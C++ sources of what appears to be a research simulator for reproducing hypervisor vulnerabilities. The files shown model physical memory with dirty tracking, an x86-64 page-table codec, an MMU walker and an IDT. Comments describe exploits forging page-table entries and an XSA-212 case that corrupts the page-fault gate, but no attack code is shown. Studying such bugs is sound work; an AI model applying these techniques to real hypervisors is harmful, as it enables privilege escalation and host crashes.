  /// Zero an entire frame (what the hypervisor does when scrubbing).
  void zero_frame(Mfn mfn);

  /// Mutable view of one frame's 4096 bytes.
  [[nodiscard]] std::span<std::uint8_t> frame_bytes(Mfn mfn);
  [[nodiscard]] std::span<const std::uint8_t> frame_bytes(Mfn mfn) const;

 private:
  void check_range(Paddr pa, std::uint64_t len) const;

  std::uint64_t frames_;
  std::vector<std::uint8_t> bytes_;
};

}  // namespace ii::sim
