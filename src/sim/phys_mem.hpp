// Machine physical memory: a flat array of 4 KiB frames.
//
// All state that the simulated platform can corrupt lives here — page
// tables, the IDT, guest kernel pages, the vDSO, exploit payloads. The
// hypervisor, the guests, the exploits and the injector all read and write
// the same PhysicalMemory instance, which is what makes cross-privilege
// memory corruption observable end to end.
//
// Write tracking: every mutation path stamps the covered frames with a
// fresh value of a monotonically increasing generation counter. Because a
// frame's generation changes on every write, the pair (generation,
// contents) is unique per frame: two observations of a frame at the same
// generation are guaranteed byte-identical. That single property is what
// the incremental state hashing (hv/snapshot digest cache) and the delta
// snapshot/restore machinery are built on — a "dirty bitmap since
// generation G" is simply the set of frames whose generation exceeds the
// per-frame generations recorded at G.
//
// Mutation paths that stamp generations (DESIGN.md §10 lists the full
// invariant): write(), write_u64(), write_slot(), zero_frame(),
// mark_dirty(), writable_frame() guards, and restore_frame() (which rolls
// a frame's generation *back* to a recorded value together with the bytes
// that were captured at that value — the only path allowed to do so).
// frame_bytes() is const-only; there is deliberately no unguarded mutable
// view.
#pragma once

#include <cstdint>
#include <cstring>
#include <span>
#include <vector>

#include "sim/types.hpp"

namespace ii::sim {

class PhysicalMemory {
 public:
  /// Create a machine with `frames` frames of 4 KiB, zero-initialized.
  explicit PhysicalMemory(std::uint64_t frames);

  [[nodiscard]] std::uint64_t frame_count() const { return frames_; }
  [[nodiscard]] std::uint64_t byte_size() const { return frames_ * kPageSize; }

  /// True when `pa .. pa+len` lies entirely inside installed memory.
  [[nodiscard]] bool contains(Paddr pa, std::uint64_t len = 1) const;
  [[nodiscard]] bool contains(Mfn mfn) const { return mfn.raw() < frames_; }

  /// Raw byte access. Out-of-range accesses throw std::out_of_range — in
  /// this simulator that models the machine check you would get for a
  /// physical access beyond installed RAM, and tests rely on it.
  void read(Paddr pa, std::span<std::uint8_t> out) const;
  void write(Paddr pa, std::span<const std::uint8_t> in);

  [[nodiscard]] std::uint64_t read_u64(Paddr pa) const;
  void write_u64(Paddr pa, std::uint64_t value);

  /// Read/write one 8-byte page-table slot of a table page.
  [[nodiscard]] std::uint64_t read_slot(Mfn table, unsigned index) const;
  void write_slot(Mfn table, unsigned index, std::uint64_t value);

  /// Zero an entire frame (what the hypervisor does when scrubbing).
  void zero_frame(Mfn mfn);

  /// Read-only view of one frame's 4096 bytes. Mutation goes through
  /// writable_frame() so the dirty tracking sees it.
  [[nodiscard]] std::span<const std::uint8_t> frame_bytes(Mfn mfn) const;

  // ------------------------------------------------------- write tracking

  /// RAII mutable view of one frame. Stamps the frame dirty on acquisition
  /// and again on release, so writes performed through the span anywhere in
  /// the guard's lifetime are covered even if a hash was taken in between.
  class FrameWriteGuard {
   public:
    FrameWriteGuard(PhysicalMemory& mem, Mfn mfn)
        : mem_{&mem}, mfn_{mfn} { mem.mark_dirty(mfn); }
    ~FrameWriteGuard() { mem_->mark_dirty(mfn_); }
    FrameWriteGuard(const FrameWriteGuard&) = delete;
    FrameWriteGuard& operator=(const FrameWriteGuard&) = delete;

    [[nodiscard]] std::span<std::uint8_t> bytes() {
      return {mem_->bytes_.data() + mfn_.raw() * kPageSize, kPageSize};
    }
    std::uint8_t& operator[](std::uint64_t i) { return bytes()[i]; }

   private:
    PhysicalMemory* mem_;
    Mfn mfn_;
  };

  /// Acquire a write guard for `mfn` (range-checked).
  [[nodiscard]] FrameWriteGuard writable_frame(Mfn mfn);

  /// Stamp `mfn` with a fresh generation without writing (for callers that
  /// mutated — or are about to mutate — through a sanctioned view).
  void mark_dirty(Mfn mfn);

  /// Global write counter: increases on every mutation call, never
  /// decreases. generation() >= frame_generation(m) for every frame.
  [[nodiscard]] std::uint64_t generation() const { return generation_; }

  /// Generation stamped on `mfn`'s last write.
  [[nodiscard]] std::uint64_t frame_generation(Mfn mfn) const {
    return frame_gen_[mfn.raw()];
  }
  [[nodiscard]] std::span<const std::uint64_t> frame_generations() const {
    return frame_gen_;
  }

  /// Dirty bitmap relative to a recorded per-frame generation vector (one
  /// bit per frame, 64 frames per word): bit set when the frame may have
  /// changed since the recording. `since` must have frame_count() entries.
  [[nodiscard]] std::vector<std::uint64_t> dirty_bitmap(
      std::span<const std::uint64_t> since) const;

  // ------------------------------------------------- snapshot-engine hooks
  // The two generation-rolling entry points below are reserved for the
  // snapshot/restore engine (hv/snapshot.cpp): they re-establish a
  // previously observed (generation, contents) pair, which is only sound
  // when bytes and generation were captured together. tools/ii-lint
  // enforces the confinement.

  /// Write `bytes` into `mfn` and roll its generation to `gen` (the value
  /// recorded when `bytes` were captured).
  void restore_frame(Mfn mfn, std::span<const std::uint8_t> bytes,
                     std::uint64_t gen);

  /// Whole-image restore: all frames plus their recorded generations.
  void restore_image(std::span<const std::uint8_t> bytes,
                     std::span<const std::uint64_t> gens,
                     std::uint64_t generation);

 private:
  void check_range(Paddr pa, std::uint64_t len) const;
  /// Stamp every frame overlapping [pa, pa+len) with one fresh generation.
  void mark_range_dirty(Paddr pa, std::uint64_t len);

  std::uint64_t frames_;
  std::vector<std::uint8_t> bytes_;
  std::vector<std::uint64_t> frame_gen_;
  std::uint64_t generation_ = 1;  // 0 is reserved as "never observed"
};

}  // namespace ii::sim
