// x86-64-style page-table entry codec.
//
// Entries at every level of the 4-level hierarchy share one 64-bit layout:
//
//   bit  0      P    present
//   bit  1      RW   writable
//   bit  2      US   user-accessible
//   bit  3      PWT  (modelled, unused by the walker)
//   bit  4      PCD  (modelled, unused by the walker)
//   bit  5      A    accessed
//   bit  6      D    dirty
//   bit  7      PSE  page-size: at L2 maps a 2 MiB page, at L3 a 1 GiB page
//   bit  8      G    global
//   bits 12..51 frame number of the next-level table (or of the large page)
//   bit  63     NX   no-execute
//
// The codec is shared by the hypervisor's validation logic, the guest kernel
// that authors entries, the MMU walker, and the exploits that forge entries.
#pragma once

#include <cstdint>
#include <string>

#include "sim/types.hpp"

namespace ii::sim {

/// Paging hierarchy levels. Xen/Linux naming used in the paper:
/// L4 = PML4/PGD, L3 = PUD, L2 = PMD, L1 = PTE page.
enum class PtLevel : int { L1 = 1, L2 = 2, L3 = 3, L4 = 4 };

[[nodiscard]] constexpr int level_index(PtLevel l) { return static_cast<int>(l); }

/// Human-readable level name ("L2 (PMD)" etc.), used in audit reports.
[[nodiscard]] std::string to_string(PtLevel level);

/// One 64-bit page-table entry. A thin value wrapper: constructing or
/// mutating a Pte never touches memory; callers read/write the raw word
/// through PhysicalMemory.
class Pte {
 public:
  static constexpr std::uint64_t kPresent = 1ULL << 0;
  static constexpr std::uint64_t kWritable = 1ULL << 1;
  static constexpr std::uint64_t kUser = 1ULL << 2;
  static constexpr std::uint64_t kWriteThrough = 1ULL << 3;
  static constexpr std::uint64_t kCacheDisable = 1ULL << 4;
  static constexpr std::uint64_t kAccessed = 1ULL << 5;
  static constexpr std::uint64_t kDirty = 1ULL << 6;
  static constexpr std::uint64_t kPageSize = 1ULL << 7;  // PSE
  static constexpr std::uint64_t kGlobal = 1ULL << 8;
  static constexpr std::uint64_t kNoExecute = 1ULL << 63;

  /// Mask of the frame-number field (bits 12..51).
  static constexpr std::uint64_t kFrameMask = 0x000FFFFFFFFFF000ULL;
  /// All bits that carry meaning in this model; the rest are reserved.
  static constexpr std::uint64_t kFlagMask = kPresent | kWritable | kUser |
                                             kWriteThrough | kCacheDisable |
                                             kAccessed | kDirty | kPageSize |
                                             kGlobal | kNoExecute;

  constexpr Pte() = default;
  constexpr explicit Pte(std::uint64_t raw) : raw_{raw} {}

  /// Build an entry pointing at `frame` with `flags` (a combination of the
  /// bit constants above).
  [[nodiscard]] static constexpr Pte make(Mfn frame, std::uint64_t flags) {
    return Pte{((frame.raw() << kPageShift) & kFrameMask) | (flags & kFlagMask)};
  }

  [[nodiscard]] constexpr std::uint64_t raw() const { return raw_; }

  [[nodiscard]] constexpr bool present() const { return raw_ & kPresent; }
  [[nodiscard]] constexpr bool writable() const { return raw_ & kWritable; }
  [[nodiscard]] constexpr bool user() const { return raw_ & kUser; }
  [[nodiscard]] constexpr bool accessed() const { return raw_ & kAccessed; }
  [[nodiscard]] constexpr bool dirty() const { return raw_ & kDirty; }
  [[nodiscard]] constexpr bool large_page() const { return raw_ & kPageSize; }
  [[nodiscard]] constexpr bool global() const { return raw_ & kGlobal; }
  [[nodiscard]] constexpr bool no_execute() const { return raw_ & kNoExecute; }

  [[nodiscard]] constexpr Mfn frame() const {
    return Mfn{(raw_ & kFrameMask) >> kPageShift};
  }

  /// All flag bits (everything outside the frame field).
  [[nodiscard]] constexpr std::uint64_t flags() const {
    return raw_ & ~kFrameMask;
  }

  /// True when a reserved (unmodelled) bit is set; the hypervisor's
  /// validation rejects such entries and the walker faults on them.
  [[nodiscard]] constexpr bool has_reserved_bits() const {
    return (raw_ & ~(kFrameMask | kFlagMask)) != 0;
  }

  [[nodiscard]] constexpr Pte with_flags(std::uint64_t extra) const {
    return Pte{raw_ | (extra & kFlagMask)};
  }
  [[nodiscard]] constexpr Pte without_flags(std::uint64_t removed) const {
    return Pte{raw_ & ~(removed & kFlagMask)};
  }

  friend constexpr bool operator==(Pte, Pte) = default;

 private:
  std::uint64_t raw_ = 0;
};

/// Decomposed 4-level indices of a canonical virtual address.
struct VaddrIndices {
  unsigned l4;  ///< bits 39..47
  unsigned l3;  ///< bits 30..38
  unsigned l2;  ///< bits 21..29
  unsigned l1;  ///< bits 12..20
};

[[nodiscard]] constexpr VaddrIndices decompose(Vaddr va) {
  const auto raw = va.raw();
  return VaddrIndices{
      .l4 = static_cast<unsigned>((raw >> 39) & 0x1FF),
      .l3 = static_cast<unsigned>((raw >> 30) & 0x1FF),
      .l2 = static_cast<unsigned>((raw >> 21) & 0x1FF),
      .l1 = static_cast<unsigned>((raw >> 12) & 0x1FF),
  };
}

/// Index of `va` at a given level.
[[nodiscard]] constexpr unsigned level_index_of(Vaddr va, PtLevel level) {
  const auto idx = decompose(va);
  switch (level) {
    case PtLevel::L4: return idx.l4;
    case PtLevel::L3: return idx.l3;
    case PtLevel::L2: return idx.l2;
    case PtLevel::L1: return idx.l1;
  }
  return 0;  // unreachable
}

/// Recompose a canonical virtual address from 4-level indices plus an
/// in-page offset. Exploits use this to craft addresses that resolve through
/// attacker-chosen table slots.
[[nodiscard]] constexpr Vaddr compose_vaddr(unsigned l4, unsigned l3,
                                            unsigned l2, unsigned l1,
                                            std::uint64_t offset = 0) {
  std::uint64_t raw = (std::uint64_t{l4 & 0x1FF} << 39) |
                      (std::uint64_t{l3 & 0x1FF} << 30) |
                      (std::uint64_t{l2 & 0x1FF} << 21) |
                      (std::uint64_t{l1 & 0x1FF} << 12) | (offset & kPageMask);
  if (raw & (std::uint64_t{1} << 47)) raw |= 0xFFFF000000000000ULL;  // sign-extend
  return Vaddr{raw};
}

}  // namespace ii::sim
