#include "sim/mmu.hpp"

#include <array>

namespace ii::sim {

std::string to_string(FaultReason reason) {
  switch (reason) {
    case FaultReason::NonCanonical: return "non-canonical address";
    case FaultReason::NotPresent: return "entry not present";
    case FaultReason::WriteProtected: return "write to read-only mapping";
    case FaultReason::UserProtected: return "user access to supervisor mapping";
    case FaultReason::NoExecute: return "fetch from no-execute mapping";
    case FaultReason::ReservedBit: return "reserved bit set in entry";
    case FaultReason::BadFrame: return "entry references frame beyond RAM";
  }
  return "unknown fault";
}

std::string PageFault::describe() const {
  std::string s = "page fault at 0x";
  char buf[32];
  std::snprintf(buf, sizeof buf, "%016llx",
                static_cast<unsigned long long>(address.raw()));
  s += buf;
  s += ": " + to_string(reason);
  if (level) s += " at " + to_string(*level);
  return s;
}

namespace {

constexpr std::array<PtLevel, 4> kWalkOrder{PtLevel::L4, PtLevel::L3,
                                            PtLevel::L2, PtLevel::L1};

/// Size of the region one leaf at `level` maps.
constexpr std::uint64_t leaf_bytes(PtLevel level) {
  switch (level) {
    case PtLevel::L1: return kPageSize;
    case PtLevel::L2: return kPageSize * kPtEntries;              // 2 MiB
    case PtLevel::L3: return kPageSize * kPtEntries * kPtEntries; // 1 GiB
    case PtLevel::L4: return 0;  // PSE invalid at L4
  }
  return 0;
}

}  // namespace

void Mmu::trace_fault(const PageFault& fault) const {
  trace_->emit(obs::TraceCategory::MmuWalk, obs::kNoDomain,
               static_cast<std::uint32_t>(fault.reason), 0,
               fault.address.raw());
}

Expected<Walk, PageFault> Mmu::walk(Mfn root, Vaddr va) const {
  auto walked = walk_impl(root, va);
  if (!walked && trace_ != nullptr) trace_fault(walked.error());
  return walked;
}

Expected<Walk, PageFault> Mmu::walk_impl(Mfn root, Vaddr va) const {
  if (!is_canonical(va)) {
    return Unexpected{PageFault{va, FaultReason::NonCanonical, std::nullopt,
                                AccessType::Read}};
  }
  Walk result{};
  result.writable = true;
  result.user = true;
  result.executable = true;

  Mfn table = root;
  for (PtLevel level : kWalkOrder) {
    if (!mem_->contains(table)) {
      return Unexpected{
          PageFault{va, FaultReason::BadFrame, level, AccessType::Read}};
    }
    const unsigned index = level_index_of(va, level);
    const Pte entry{mem_->read_slot(table, index)};
    result.steps.push_back(WalkStep{level, table, index, entry});

    if (!entry.present()) {
      return Unexpected{
          PageFault{va, FaultReason::NotPresent, level, AccessType::Read}};
    }
    if (entry.has_reserved_bits()) {
      return Unexpected{
          PageFault{va, FaultReason::ReservedBit, level, AccessType::Read}};
    }
    result.writable = result.writable && entry.writable();
    result.user = result.user && entry.user();
    result.executable = result.executable && !entry.no_execute();

    const bool is_leaf =
        level == PtLevel::L1 ||
        (entry.large_page() && (level == PtLevel::L2 || level == PtLevel::L3));
    if (entry.large_page() && level == PtLevel::L4) {
      return Unexpected{
          PageFault{va, FaultReason::ReservedBit, level, AccessType::Read}};
    }
    if (is_leaf) {
      const std::uint64_t span = level == PtLevel::L1 ? kPageSize : leaf_bytes(level);
      const std::uint64_t offset = va.raw() & (span - 1);
      const Paddr base = mfn_to_paddr(entry.frame());
      const Paddr pa = base + offset;
      if (!mem_->contains(pa)) {
        return Unexpected{
            PageFault{va, FaultReason::BadFrame, level, AccessType::Read}};
      }
      result.physical = pa;
      result.page_bytes = span;
      return result;
    }
    table = entry.frame();
  }
  // Unreachable: L1 always terminates above.
  return Unexpected{PageFault{va, FaultReason::NotPresent, PtLevel::L1,
                              AccessType::Read}};
}

Expected<Walk, PageFault> Mmu::translate(Mfn root, Vaddr va, AccessType access,
                                         AccessMode mode) const {
  auto walked = walk(root, va);
  if (!walked) {
    PageFault f = walked.error();
    f.access = access;
    return Unexpected{f};
  }
  const Walk& w = walked.value();
  auto permission_fault = [&](FaultReason reason) {
    const PageFault f{va, reason, w.steps.back().level, access};
    if (trace_ != nullptr) trace_fault(f);
    return Unexpected{f};
  };
  if (access == AccessType::Write && !w.writable) {
    return permission_fault(FaultReason::WriteProtected);
  }
  if (mode == AccessMode::User && !w.user) {
    return permission_fault(FaultReason::UserProtected);
  }
  if (access == AccessType::Execute && !w.executable) {
    return permission_fault(FaultReason::NoExecute);
  }
  return walked;
}

}  // namespace ii::sim
