// Fundamental machine-level types for the simulated x86-64-style platform.
//
// Strong types are used for the three address spaces that coexist in a
// paravirtualized system so that they cannot be confused at compile time:
//
//   Vaddr  - a virtual (a.k.a. linear) address, resolved through page tables.
//   Paddr  - a machine physical address (byte granularity).
//   Mfn    - a machine frame number (Paddr >> PAGE_SHIFT).
//   Pfn    - a guest pseudo-physical frame number, translated to an Mfn
//            through the per-domain P2M table (see ii::hv::Domain).
#pragma once

#include <compare>
#include <cstddef>
#include <cstdint>

namespace ii::sim {

inline constexpr std::uint64_t kPageShift = 12;
inline constexpr std::uint64_t kPageSize = std::uint64_t{1} << kPageShift;
inline constexpr std::uint64_t kPageMask = kPageSize - 1;

/// Number of 8-byte page-table entries per page-table page.
inline constexpr std::uint64_t kPtEntries = 512;

/// CRTP-free strong integer wrapper. Each alias below is a distinct type.
template <typename Tag>
class StrongU64 {
 public:
  constexpr StrongU64() = default;
  constexpr explicit StrongU64(std::uint64_t raw) : raw_{raw} {}

  [[nodiscard]] constexpr std::uint64_t raw() const { return raw_; }

  friend constexpr auto operator<=>(StrongU64, StrongU64) = default;

 private:
  std::uint64_t raw_ = 0;
};

struct VaddrTag {};
struct PaddrTag {};
struct MfnTag {};
struct PfnTag {};

/// A virtual (linear) address.
using Vaddr = StrongU64<VaddrTag>;
/// A machine physical byte address.
using Paddr = StrongU64<PaddrTag>;
/// A machine frame number.
using Mfn = StrongU64<MfnTag>;
/// A guest pseudo-physical frame number.
using Pfn = StrongU64<PfnTag>;

/// Byte offset of an address within its 4 KiB page.
[[nodiscard]] constexpr std::uint64_t page_offset(Vaddr va) {
  return va.raw() & kPageMask;
}
[[nodiscard]] constexpr std::uint64_t page_offset(Paddr pa) {
  return pa.raw() & kPageMask;
}

/// Frame containing a physical byte address.
[[nodiscard]] constexpr Mfn paddr_to_mfn(Paddr pa) {
  return Mfn{pa.raw() >> kPageShift};
}

/// First byte of a machine frame.
[[nodiscard]] constexpr Paddr mfn_to_paddr(Mfn mfn) {
  return Paddr{mfn.raw() << kPageShift};
}

/// Advance an address by a byte delta.
[[nodiscard]] constexpr Vaddr operator+(Vaddr va, std::uint64_t delta) {
  return Vaddr{va.raw() + delta};
}
[[nodiscard]] constexpr Paddr operator+(Paddr pa, std::uint64_t delta) {
  return Paddr{pa.raw() + delta};
}

/// True when `va` is canonical for 48-bit virtual addressing (bits 63..47
/// are all equal). Non-canonical accesses raise a general-protection-style
/// fault on real hardware; the MMU walker refuses them.
[[nodiscard]] constexpr bool is_canonical(Vaddr va) {
  const auto upper = va.raw() >> 47;
  return upper == 0 || upper == 0x1FFFF;
}

}  // namespace ii::sim
