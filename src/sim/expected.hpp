// Minimal expected<T, E> for C++20 (std::expected is C++23).
//
// Only the operations the codebase needs are provided: construction from a
// value or an error, has_value/operator bool, value(), error(). value() on an
// error (or error() on a value) terminates via assert-like std::abort, which
// is the behaviour we want in a simulator: such a mix-up is a programming
// bug, never a recoverable runtime condition.
#pragma once

#include <cstdlib>
#include <utility>
#include <variant>

namespace ii {

/// Tag wrapper distinguishing the error alternative of Expected.
template <typename E>
struct Unexpected {
  E value;
};

template <typename E>
Unexpected(E) -> Unexpected<E>;

/// A value of type T or an error of type E.
template <typename T, typename E>
class [[nodiscard]] Expected {
 public:
  Expected(T value) : storage_{std::in_place_index<0>, std::move(value)} {}
  Expected(Unexpected<E> err)
      : storage_{std::in_place_index<1>, std::move(err.value)} {}

  [[nodiscard]] bool has_value() const { return storage_.index() == 0; }
  explicit operator bool() const { return has_value(); }

  [[nodiscard]] const T& value() const& {
    if (!has_value()) std::abort();
    return std::get<0>(storage_);
  }
  [[nodiscard]] T& value() & {
    if (!has_value()) std::abort();
    return std::get<0>(storage_);
  }

  [[nodiscard]] const E& error() const& {
    if (has_value()) std::abort();
    return std::get<1>(storage_);
  }

  [[nodiscard]] const T& operator*() const& { return value(); }
  [[nodiscard]] const T* operator->() const { return &value(); }

 private:
  std::variant<T, E> storage_;
};

}  // namespace ii
