#include "sim/pte.hpp"

namespace ii::sim {

std::string to_string(PtLevel level) {
  switch (level) {
    case PtLevel::L1: return "L1 (PTE)";
    case PtLevel::L2: return "L2 (PMD)";
    case PtLevel::L3: return "L3 (PUD)";
    case PtLevel::L4: return "L4 (PGD)";
  }
  return "L? (invalid)";
}

}  // namespace ii::sim
