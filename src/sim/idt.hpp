// Interrupt Descriptor Table model (x86-64 16-byte gate descriptors).
//
// The IDT is stored *in physical memory*, exactly like on real hardware.
// That detail is load-bearing for this reproduction: the XSA-212-crash use
// case overwrites the page-fault gate bytes in the IDT frame, and the crash
// materializes when the hypervisor next dispatches vector 14 through the
// corrupted descriptor.
#pragma once

#include <array>
#include <cstdint>
#include <span>

#include "sim/phys_mem.hpp"
#include "sim/types.hpp"

namespace ii::sim {

/// Exception vectors used by the platform.
inline constexpr unsigned kDivideErrorVector = 0;
inline constexpr unsigned kInvalidOpcodeVector = 6;
inline constexpr unsigned kDoubleFaultVector = 8;
inline constexpr unsigned kGeneralProtectionVector = 13;
inline constexpr unsigned kPageFaultVector = 14;
inline constexpr unsigned kIdtVectors = 256;

/// Decoded 16-byte interrupt/trap gate.
struct IdtGate {
  std::uint64_t handler = 0;   ///< linear address of the handler
  std::uint16_t selector = 0;  ///< code-segment selector
  std::uint8_t ist = 0;        ///< interrupt-stack-table slot (0 = none)
  std::uint8_t type_attr = 0;  ///< P | DPL | gate type

  static constexpr std::uint8_t kPresentBit = 0x80;
  static constexpr std::uint8_t kInterruptGateType = 0x0E;
  static constexpr std::uint8_t kTrapGateType = 0x0F;

  [[nodiscard]] bool present() const { return type_attr & kPresentBit; }
  [[nodiscard]] unsigned dpl() const { return (type_attr >> 5) & 0x3; }
  [[nodiscard]] unsigned gate_type() const { return type_attr & 0xF; }

  /// A gate the dispatcher accepts: present, interrupt/trap type, canonical
  /// handler. Anything else triple-faults real hardware; the hypervisor
  /// models that as a fatal double fault.
  [[nodiscard]] bool well_formed() const;

  /// Conventional present supervisor interrupt gate at `handler`.
  [[nodiscard]] static IdtGate interrupt_gate(std::uint64_t handler,
                                              std::uint16_t selector = 0x08);

  friend bool operator==(const IdtGate&, const IdtGate&) = default;
};

/// View of an IDT resident at a physical base address. The view owns no
/// memory; it encodes/decodes gate descriptors in place so that arbitrary
/// memory writes (exploits, injector) naturally corrupt it.
class Idt {
 public:
  Idt(PhysicalMemory& mem, Paddr base) : mem_{&mem}, base_{base} {}

  static constexpr std::uint64_t kGateBytes = 16;

  /// Raw descriptor codec, exposed so attack code can forge gate bytes and
  /// feed them through an arbitrary-write primitive.
  [[nodiscard]] static std::array<std::uint8_t, kGateBytes> encode(
      const IdtGate& gate);
  [[nodiscard]] static IdtGate decode(
      std::span<const std::uint8_t, kGateBytes> raw);

  [[nodiscard]] Paddr base() const { return base_; }
  /// Physical address of a vector's descriptor (what `sidt` + arithmetic
  /// yields for an attacker).
  [[nodiscard]] Paddr gate_address(unsigned vector) const;

  [[nodiscard]] IdtGate read(unsigned vector) const;
  void write(unsigned vector, const IdtGate& gate);

 private:
  PhysicalMemory* mem_;
  Paddr base_;
};

}  // namespace ii::sim
