#include "sim/phys_mem.hpp"

#include <stdexcept>
#include <string>

namespace ii::sim {

PhysicalMemory::PhysicalMemory(std::uint64_t frames)
    : frames_{frames}, bytes_(frames * kPageSize, 0) {
  if (frames == 0) throw std::invalid_argument{"PhysicalMemory: zero frames"};
}

bool PhysicalMemory::contains(Paddr pa, std::uint64_t len) const {
  return len != 0 && pa.raw() < byte_size() && byte_size() - pa.raw() >= len;
}

void PhysicalMemory::check_range(Paddr pa, std::uint64_t len) const {
  if (!contains(pa, len)) {
    throw std::out_of_range{"physical access beyond installed RAM at 0x" +
                            std::to_string(pa.raw())};
  }
}

void PhysicalMemory::read(Paddr pa, std::span<std::uint8_t> out) const {
  check_range(pa, out.size());
  std::memcpy(out.data(), bytes_.data() + pa.raw(), out.size());
}

void PhysicalMemory::write(Paddr pa, std::span<const std::uint8_t> in) {
  check_range(pa, in.size());
  std::memcpy(bytes_.data() + pa.raw(), in.data(), in.size());
}

std::uint64_t PhysicalMemory::read_u64(Paddr pa) const {
  check_range(pa, sizeof(std::uint64_t));
  std::uint64_t v = 0;
  std::memcpy(&v, bytes_.data() + pa.raw(), sizeof v);
  return v;
}

void PhysicalMemory::write_u64(Paddr pa, std::uint64_t value) {
  check_range(pa, sizeof value);
  std::memcpy(bytes_.data() + pa.raw(), &value, sizeof value);
}

std::uint64_t PhysicalMemory::read_slot(Mfn table, unsigned index) const {
  if (index >= kPtEntries) throw std::out_of_range{"page-table slot index"};
  return read_u64(mfn_to_paddr(table) + index * sizeof(std::uint64_t));
}

void PhysicalMemory::write_slot(Mfn table, unsigned index,
                                std::uint64_t value) {
  if (index >= kPtEntries) throw std::out_of_range{"page-table slot index"};
  write_u64(mfn_to_paddr(table) + index * sizeof(std::uint64_t), value);
}

void PhysicalMemory::zero_frame(Mfn mfn) {
  check_range(mfn_to_paddr(mfn), kPageSize);
  std::memset(bytes_.data() + mfn_to_paddr(mfn).raw(), 0, kPageSize);
}

std::span<std::uint8_t> PhysicalMemory::frame_bytes(Mfn mfn) {
  check_range(mfn_to_paddr(mfn), kPageSize);
  return {bytes_.data() + mfn_to_paddr(mfn).raw(), kPageSize};
}

std::span<const std::uint8_t> PhysicalMemory::frame_bytes(Mfn mfn) const {
  check_range(mfn_to_paddr(mfn), kPageSize);
  return {bytes_.data() + mfn_to_paddr(mfn).raw(), kPageSize};
}

}  // namespace ii::sim
