#include "sim/phys_mem.hpp"

#include <algorithm>
#include <stdexcept>
#include <string>

namespace ii::sim {

PhysicalMemory::PhysicalMemory(std::uint64_t frames)
    : frames_{frames},
      bytes_(frames * kPageSize, 0),
      frame_gen_(frames, 1) {  // generation 0 is reserved: "never observed"
  if (frames == 0) throw std::invalid_argument{"PhysicalMemory: zero frames"};
}

bool PhysicalMemory::contains(Paddr pa, std::uint64_t len) const {
  return len != 0 && pa.raw() < byte_size() && byte_size() - pa.raw() >= len;
}

void PhysicalMemory::check_range(Paddr pa, std::uint64_t len) const {
  if (!contains(pa, len)) {
    throw std::out_of_range{"physical access beyond installed RAM at 0x" +
                            std::to_string(pa.raw())};
  }
}

void PhysicalMemory::mark_range_dirty(Paddr pa, std::uint64_t len) {
  const std::uint64_t gen = ++generation_;
  const std::uint64_t first = pa.raw() / kPageSize;
  const std::uint64_t last = (pa.raw() + len - 1) / kPageSize;
  for (std::uint64_t m = first; m <= last; ++m) frame_gen_[m] = gen;
}

void PhysicalMemory::read(Paddr pa, std::span<std::uint8_t> out) const {
  check_range(pa, out.size());
  std::memcpy(out.data(), bytes_.data() + pa.raw(), out.size());
}

void PhysicalMemory::write(Paddr pa, std::span<const std::uint8_t> in) {
  check_range(pa, in.size());
  mark_range_dirty(pa, in.size());
  std::memcpy(bytes_.data() + pa.raw(), in.data(), in.size());
}

std::uint64_t PhysicalMemory::read_u64(Paddr pa) const {
  check_range(pa, sizeof(std::uint64_t));
  std::uint64_t v = 0;
  std::memcpy(&v, bytes_.data() + pa.raw(), sizeof v);
  return v;
}

void PhysicalMemory::write_u64(Paddr pa, std::uint64_t value) {
  check_range(pa, sizeof value);
  mark_range_dirty(pa, sizeof value);
  std::memcpy(bytes_.data() + pa.raw(), &value, sizeof value);
}

std::uint64_t PhysicalMemory::read_slot(Mfn table, unsigned index) const {
  if (index >= kPtEntries) throw std::out_of_range{"page-table slot index"};
  return read_u64(mfn_to_paddr(table) + index * sizeof(std::uint64_t));
}

void PhysicalMemory::write_slot(Mfn table, unsigned index,
                                std::uint64_t value) {
  if (index >= kPtEntries) throw std::out_of_range{"page-table slot index"};
  write_u64(mfn_to_paddr(table) + index * sizeof(std::uint64_t), value);
}

void PhysicalMemory::zero_frame(Mfn mfn) {
  check_range(mfn_to_paddr(mfn), kPageSize);
  mark_dirty(mfn);
  std::memset(bytes_.data() + mfn_to_paddr(mfn).raw(), 0, kPageSize);
}

std::span<const std::uint8_t> PhysicalMemory::frame_bytes(Mfn mfn) const {
  check_range(mfn_to_paddr(mfn), kPageSize);
  return {bytes_.data() + mfn_to_paddr(mfn).raw(), kPageSize};
}

PhysicalMemory::FrameWriteGuard PhysicalMemory::writable_frame(Mfn mfn) {
  check_range(mfn_to_paddr(mfn), kPageSize);
  return FrameWriteGuard{*this, mfn};
}

void PhysicalMemory::mark_dirty(Mfn mfn) {
  check_range(mfn_to_paddr(mfn), kPageSize);
  frame_gen_[mfn.raw()] = ++generation_;
}

std::vector<std::uint64_t> PhysicalMemory::dirty_bitmap(
    std::span<const std::uint64_t> since) const {
  if (since.size() != frames_) {
    throw std::logic_error{"dirty_bitmap: generation vector shape mismatch"};
  }
  std::vector<std::uint64_t> bits((frames_ + 63) / 64, 0);
  for (std::uint64_t m = 0; m < frames_; ++m) {
    if (frame_gen_[m] != since[m]) bits[m / 64] |= 1ULL << (m % 64);
  }
  return bits;
}

void PhysicalMemory::restore_frame(Mfn mfn, std::span<const std::uint8_t> bytes,
                                   std::uint64_t gen) {
  check_range(mfn_to_paddr(mfn), kPageSize);
  if (bytes.size() != kPageSize) {
    throw std::logic_error{"restore_frame: not a whole frame"};
  }
  std::memcpy(bytes_.data() + mfn_to_paddr(mfn).raw(), bytes.data(),
              kPageSize);
  frame_gen_[mfn.raw()] = gen;
  generation_ = std::max(generation_, gen);
}

void PhysicalMemory::restore_image(std::span<const std::uint8_t> bytes,
                                   std::span<const std::uint64_t> gens,
                                   std::uint64_t generation) {
  if (bytes.size() != byte_size() || gens.size() != frames_) {
    throw std::logic_error{"restore_image: image shape mismatch"};
  }
  std::memcpy(bytes_.data(), bytes.data(), bytes.size());
  std::copy(gens.begin(), gens.end(), frame_gen_.begin());
  generation_ = std::max(generation_, generation);
}

}  // namespace ii::sim
