// Software MMU: 4-level page-table walk with permission accumulation.
//
// This is the component through which every virtual-address access in the
// simulator is resolved — guest kernel accesses, hypervisor linear-address
// accesses, and the exploits' crafted mappings. It implements the same
// semantics the paper's erroneous states live in: present/RW/US bits are
// AND-accumulated down the walk, PSE entries terminate the walk early with a
// large page, non-canonical and reserved-bit entries fault.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "obs/trace.hpp"
#include "sim/expected.hpp"
#include "sim/phys_mem.hpp"
#include "sim/pte.hpp"
#include "sim/types.hpp"

